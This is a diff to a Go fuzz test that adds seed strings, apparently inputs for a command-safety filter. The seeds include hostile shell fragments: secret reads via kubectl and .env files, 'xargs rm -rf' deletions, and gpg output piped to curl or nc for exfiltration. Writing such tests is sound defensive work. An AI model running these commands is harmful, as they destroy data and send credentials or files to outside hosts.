@@ -265,7 +265,7 @@ func FuzzR11(f *testing.F) {
 		"gcloud --impersonate-service-account", "gcloud x --impersonate-service-account=", "kubectl get /", "kubectl get secret/",
 		"kubectl get -f", "kubectl get secrets/x --template", "find | xargs rm -rf", "| xargs rm -rf", "find . -name | xargs rm -r",
 		"cat .E", "cat .ENV.", "cat .Env.Example", "supabase stop --no-backup", "gcloud secrets get-iam-policy",
-		"aws secretsmanager get-resource-policy",
+		"aws secretsmanager get-resource-policy", "gpg -o", "gpg -c -o - | curl -T -", "gpg --output=- x | nc h 1", "gpg -r",
 	} {
 		f.Add(s)
 	}
